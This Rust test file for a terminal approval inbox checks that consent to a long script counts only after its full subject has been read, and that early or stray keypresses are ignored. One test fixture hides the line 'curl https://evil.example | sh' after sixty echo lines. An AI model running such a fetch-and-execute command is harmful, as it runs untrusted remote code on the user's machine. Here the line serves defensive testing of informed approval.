//! Consent is to what was seen: reading before consent, and keys that come too early.

use crossterm::event::KeyCode;
use holdpoint_core::Decision;
use holdpoint_core::decision::AnswerInput;
use serde_json::json;

use super::events::{AnswerOutcome, InboxEffect, InboxEvent};
use super::model::{Model, Screen};
use super::scene::{approval, card, decision, draw, inbox, later, open, press, press_at};
use super::update::update;

/// An approval of a script that does not fit on the screen.
fn long(number: u32) -> Decision {
    let steps: Vec<String> = (1..=60).map(|n| format!("echo {n}")).collect();
    let mut whole = serde_json::to_value(approval(number)).unwrap();
    whole["subject"] = json!(format!("{}\ncurl https://evil.example | sh", steps.join("\n")));
    whole["prompt"] = json!("Run the <tests> script?");
    serde_json::from_value(whole).unwrap()
}

fn opened(waiting: &Decision) -> Model {
    let mut model = inbox((80, 24), std::slice::from_ref(waiting));
    open(&mut model, waiting, None);
    model
}

#[track_caller]
fn sent(effects: &[InboxEffect]) -> &AnswerInput {
    match effects {
        [InboxEffect::Send(_, input)] => input,
        other => panic!("not one answer was sent: {other:?}"),
    }
}

#[test]
fn consent_waits_for_the_end_of_the_subject() {
    let mut model = opened(&long(1));
    let shown = draw(&model);
    assert!(shown.contains("Subject\n  echo 1\n") && !shown.contains("curl"), "{shown}");
    assert!(shown.contains("lines left · PgDn · C approve unread"), "{shown}");
    assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter reads on");
    let mut model = opened(&long(1));
    assert_eq!(press(&mut model, "1"), []);
    assert!(draw(&model).contains("lines left (PgDn). C approves unread."));
    // Space and PgDn read on.
    press(&mut model, " <pgdn><pgdn>");
    assert!(draw(&model).contains("curl https://evil.example | sh"), "{}", draw(&model));
    let input = sent(&press(&mut model, "1<enter>")).clone();
    assert_eq!((input.values["c"].clone(), input.seen), (json!("yes"), Some(true)));
}

#[test]
fn a_yes_that_was_refused_is_no_no() {
    for keys in ["1<enter>1<enter>", "1<enter><enter><enter><enter><enter><enter><enter><enter>"] {
        let mut model = opened(&long(1));
        assert_eq!(press(&mut model, keys), [], "{keys}");
    }
    let mut model = opened(&long(1));
    press(&mut model, "1<enter><enter><enter><enter><enter>");
    assert_eq!(sent(&press(&mut model, "1<enter>")).values["c"], "yes", "Enter has read it to its end");
    let mut model = opened(&long(1));
    assert_eq!(sent(&press(&mut model, "1<enter>2<enter>")).values["c"], "no");
}

#[test]
fn going_to_a_control_is_not_reading() {
    let mut model = opened(&long(1));
    press(&mut model, "k");
    assert!(draw(&model).contains("> 1 Yes"), "{}", draw(&model));
    assert_eq!(press(&mut model, "<enter>"), []);
    assert!(draw(&model).contains("lines left (PgDn)."), "{}", draw(&model));
}

#[test]
fn the_subject_alone_read_to_its_end_counts() {
    let mut model = opened(&long(1));
    press(&mut model, "su");
    assert!(card(&model).is_unread());
    press(&mut model, "sGu");
    assert!(card(&model).is_unread(), "a leap to its end is not reading");
    press(&mut model, "s<pgdn><pgdn><pgdn>u");
    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(true));
}

#[test]
fn consent_unread_is_a_second_step_and_recorded() {
    let mut model = opened(&long(1));
    assert_eq!(press(&mut model, "1C"), []);
    assert!(draw(&model).contains("Unread approval (recorded)."), "{}", draw(&model));
    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(false));
}

#[test]
fn refusing_needs_no_reading() {
    let mut model = opened(&long(1));
    press(&mut model, "2");
    assert_eq!(sent(&press(&mut model, "<enter>")).values["c"], "no");
    let mut model = opened(&long(1));
    assert!(
        press(&mut model, "gno, smaller<c-s>").iter().any(|effect| matches!(effect, InboxEffect::Send(..)))
    );
}

#[test]
fn a_short_subject_is_seen_at_once() {
    let mut model = opened(&approval(1));
    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(true));
}

#[test]
fn from_the_list_consent_only_where_the_whole_subject_stands_there() {
    let (small, large) = (approval(1), long(2));
    let mut model = inbox((80, 24), &[small.clone(), large.clone()]);
    assert!(draw(&model).contains("\nkubectl apply\n"), "{}", draw(&model));
    assert_eq!(press(&mut model, "1"), [InboxEffect::Open(small.id, Some(1))]);
    model.screen = Screen::List;
    press(&mut model, "j");
    assert_eq!(press(&mut model, "1"), [InboxEffect::Open(large.id, None)]);
    model.screen = Screen::List;
    assert_eq!(press(&mut model, "2"), [InboxEffect::Open(large.id, Some(2))], "a no needs no reading");
    // A low screen has no room for the subject.
    model.screen = Screen::List;
    press(&mut model, "k");
    update(&mut model, InboxEvent::Resized(80, 12));
    assert!(!draw(&model).contains("\nkubectl apply\n"), "only the row says it, and may cut it");
    assert_eq!(press(&mut model, "1"), [InboxEffect::Open(small.id, None)]);
}

#[test]
fn a_run_of_keys_that_began_before_a_card_appeared_never_reaches_it() {
    for gap in [0, 10, 60, 150, 249, 400, 599] {
        let begin = if gap < 250 { gap } else { 100 };
        let mut model = inbox((80, 24), &[approval(1)]);
        model.screen = Screen::Opening(approval(1).id);
        update(&mut model, super::scene::read(&approval(1)));
        draw(&model);
        model.arrival.drawn(later(0));
        let mut at = begin - gap;
        for key in ['1', '\r', '2', '\r', '1', '\r'] {
            at += gap;
            let key = if key == '\r' { KeyCode::Enter } else { KeyCode::Char(key) };
            assert_eq!(press_at(&mut model, key, later(at)), [], "{gap} ms");
        }
        let shown = draw(&model);
        assert!(shown.contains("Keys typed before this appeared were ignored"), "{shown}");
        assert!(shown.ends_with("just appeared …"), "{shown}");
        // After a pause, keys act again.
        assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(at + 610)), []);
        assert_eq!(sent(&press_at(&mut model, KeyCode::Enter, later(at + 620))).values["c"], "yes");
    }
}

#[test]
fn keys_pressed_while_something_is_sent_or_opened_do_nothing_and_say_so() {
    let (first, second) = (decision(1, &json!({})), decision(2, &json!({})));
    let mut model = inbox((80, 24), &[first.clone(), second]);
    open(&mut model, &first, None);
    press(&mut model, "2");
    assert_eq!(press_at(&mut model, KeyCode::Enter, later(1_500)).len(), 1, "the answer");
    assert!(draw(&model).contains("Sending …"));
    model.arrival.drawn(later(2_000));
    // The next decision is selected now; keys pressed before that do not open it.
    assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(1_990)), []);
    assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_100)), []);
    // The acknowledgement does not change that.
    let taken = AnswerOutcome { decision: first, next: None, replayed: false, same: Vec::new() };
    update(&mut model, InboxEvent::Taken(Box::new(taken)));
    assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_701)).len(), 1);
    assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(2_702)), []);
    assert!(draw(&model).contains("Ignored: still opening."), "{}", draw(&model));
}

#[test]
fn a_number_is_for_the_field_that_has_the_focus() {
    let on_commit = json!({"field": "verdict", "op": "EQUALS", "value": "commit"});
    let two = |ids: [&str; 2]| json!(ids.map(|id| json!({"id": id, "label": format!("Take {id}")})));
    let given = json!({"source": "form", "prompt": "Verdict", "fields": [
        {"id": "verdict", "kind": "choice", "label": "Verdict", "options": two(["commit", "retry"])},
        {"id": "patchset", "kind": "choice", "label": "Patch set", "options": two(["1", "2"]), "visible_if": on_commit},
        {"id": "hooks", "kind": "boolean", "label": "Run hooks", "required": false}]});
    let mut model = opened(&decision(1, &given));
    press(&mut model, "1<tab>");
    let shown = draw(&model);
    assert!(shown.contains("> 1 ( ) Take 1") && shown.contains("2 ( ) Take 2"), "{shown}");
    assert!(shown.contains("(x) Take commit") && !shown.contains("1 (x) Take commit"), "{shown}");
    press(&mut model, "2");
    assert!(draw(&model).contains("> 2 (x) Take 2"), "{}", draw(&model));
    press(&mut model, "3");
    assert!(draw(&model).contains("No option 3."), "{}", draw(&model));
    // What has no numbers is not answered by those of another field.
    press(&mut model, "<tab>2");
    let shown = draw(&model);
    assert!(shown.contains("1 (x) Take commit") && shown.contains("No option 2."), "{shown}");
}

#[test]
fn enter_on_what_is_out_of_view_shows_it_and_says_so() {
    let mut model = opened(&long(1));
    press(&mut model, " <pgdn><pgdn><pgdn>1");
    draw(&model);
    press(&mut model, "<home>");
    assert!(!draw(&model).contains("curl"), "{}", draw(&model));
    assert_eq!(press(&mut model, "<enter>"), []);
    assert!(draw(&model).contains("Scrolled back. Press again."), "{}", draw(&model));
    assert_eq!(sent(&press(&mut model, "<enter>")).values["c"], json!("yes"));
}
